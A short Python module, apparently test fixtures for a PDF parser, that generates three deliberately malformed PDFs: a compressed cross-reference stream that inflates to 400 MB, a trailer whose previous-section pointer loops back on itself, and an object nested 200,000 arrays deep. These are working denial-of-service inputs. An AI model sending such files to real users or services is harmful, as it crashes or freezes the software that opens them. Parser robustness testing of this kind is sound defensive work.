"""PDFs that are made to harm whoever opens them."""

from __future__ import annotations

import zlib


def bomb() -> bytes:
    """A cross-reference stream of 400 megabytes, in less than one."""
    packer, piece = zlib.compressobj(), b"\0" * 2**20
    packed = b"".join(packer.compress(piece) for _time in range(400)) + packer.flush()
    head = (
        b"%%PDF-1.7\n1 0 obj\n<</Type/XRef/Size 9/W[1 4 2]/Root 1 0 R/Length %d/Filter/FlateDecode>>stream\n"
    )
    return head % len(packed) + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"


def in_a_circle() -> bytes:
    trailer = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF"
    return b"%PDF-1.7\n" + trailer


def nested() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF"
    )
